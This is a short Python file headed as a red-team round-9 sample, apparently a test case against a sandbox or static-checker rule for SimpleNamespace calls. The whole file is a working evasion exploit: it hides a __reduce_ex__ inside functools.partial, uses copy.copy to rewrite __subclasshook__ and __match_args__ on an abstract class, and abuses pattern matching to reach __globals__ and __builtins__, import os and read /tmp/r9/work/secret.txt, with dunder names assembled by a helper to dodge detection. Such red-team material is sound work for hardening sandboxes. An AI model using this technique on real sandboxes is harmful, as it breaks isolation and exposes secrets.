# family: red team, round 9 (partial_simplenamespace_kwargs)
# functools.partial(SimpleNamespace, **runtime): the SimpleNamespace(**...) rule only looks at calls whose
# head name is SimpleNamespace; partial carries the run-time keys into the namespace's __dict__.
import abc
import copy
import functools
from types import SimpleNamespace


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(protocol):
        return (lambda: target, (), (None, names))

    make = functools.partial(SimpleNamespace, **{_d("reduce_ex"): reducer})
    copy.copy(make())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): lambda sub: True, _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
